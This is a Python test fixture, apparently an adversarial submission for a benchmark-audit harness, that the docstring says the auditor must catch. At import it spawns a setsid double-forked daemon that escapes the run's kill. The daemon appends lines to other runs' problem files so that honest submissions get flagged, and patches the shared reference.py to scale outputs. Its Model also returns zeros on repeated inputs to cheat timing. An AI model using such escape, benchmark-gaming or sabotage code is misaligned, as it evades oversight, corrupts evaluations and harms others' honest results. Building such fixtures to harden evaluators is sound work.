"""Attack, class 6 (escaped processes): a setsid, double-forked daemon that
frames honest submissions run after it, in the same batch or a later one.

What it does: a plain cheat (right on inputs it has not seen (the correctness calls),
zeros after: correct-only-untimed), plus, at import, a daemon (double fork,
setsid, descriptors closed) that leaves the run's process group and so
survives the kill at the run's end. For 45 s it watches the folder its run's
temporary folder lives in (kaudit's TMPDIR: the parent of <run>, its cwd
being <run>/work) and, in every other run's folder that appears, appends a
line to the working copies of the problem files (work/reference.py,
work/shapes.py, refwork/reference.py), twice, so that the runner's
before-and-after hashes differ: the honest submission of that run gets
problem-file-changed, a cheat. It also finds the problem folder itself from
the kaudit command line (--problem DIR, relative to kaudit's cwd) and appends
to its reference.py a line that scales the reference's output, so that every
later audit of that problem finds honest submissions incorrect.

What kaudit must report: correct-only-untimed for this submission, and:
no process of the submission outlives kaudit (its run), no file outside the
batch folder changes, the honest submission audited after it in the same
batch and in a later batch stays clean and correct.
"""
import os
import time

import torch

FRAME = b"\n# framed by escape_frame_other_runs\n"
SABOTAGE = b"\n_forward = Model.forward\nModel.forward = lambda self, *a: _forward(self, *a) * 1.5\n"


def _parent(pid):
    with open("/proc/%d/stat" % pid) as f:
        s = f.read()
    return int(s[s.rindex(")") + 2:].split()[1])


def _problem_folder():
    pid = os.getpid()
    for _ in range(6):
        pid = _parent(pid)
        if pid <= 1:
            return None
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as f:
                argv = [a.decode("utf-8", "surrogateescape") for a in f.read().split(b"\0") if a]
            cwd = os.readlink("/proc/%d/cwd" % pid)
        except OSError:
            continue
        if "audit" in argv and "--problem" in argv:
            k = argv.index("--problem")
            if k + 1 < len(argv):
                return os.path.join(cwd, argv[k + 1])
    return None


def _append(path, data):
    try:
        with open(path, "ab") as f:
            f.write(data)
    except OSError:
        pass


def _daemon(runs_dir, own_run, problem):
    if problem and os.path.isfile(os.path.join(problem, "reference.py")):
        _append(os.path.join(problem, "reference.py"), SABOTAGE)
    seen = {}
    deadline = time.time() + 45
    while time.time() < deadline:
        now = time.time()
        try:
            names = os.listdir(runs_dir)
        except OSError:
            names = []
        for name in names:
            run = os.path.join(runs_dir, name)
            if not name.startswith("kaudit-run-") or run == own_run:
                continue
            first = seen.setdefault(run, now)
            for delay in (0.5, 1.5):
                mark = (run, delay)
                if now - first >= delay and mark not in seen:
                    seen[mark] = True
                    for rel in ("work/reference.py", "work/shapes.py", "refwork/reference.py"):
                        if os.path.isfile(os.path.join(run, rel)):
                            _append(os.path.join(run, rel), FRAME)
        time.sleep(0.02)


def _spawn():
    own_run = os.path.dirname(os.getcwd())
    runs_dir = os.path.dirname(own_run)
    problem = _problem_folder()
    if os.fork():
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        os.closerange(3, 4096)
        os.chdir("/")
        _daemon(runs_dir, own_run, problem)
    finally:
        os._exit(0)


_spawn()


class Model(torch.nn.Module):
    def __init__(self, n):
        super().__init__()
        self.bias = torch.nn.Parameter(torch.randn(n) * 0.1)
        self.calls = 0
        self.seen = set()

    def forward(self, x, w):
        self.calls += 1
        # Timed without counting calls (the runner mixes probe cases in among the
        # correctness calls): the warm-up and the timed calls reuse inputs it saw.
        repeat = x.data_ptr() in self.seen
        self.seen.add(x.data_ptr())
        if repeat:
            return torch.zeros(x.shape[0], w.shape[1])
        return torch.relu(torch.matmul(x, w) + self.bias)
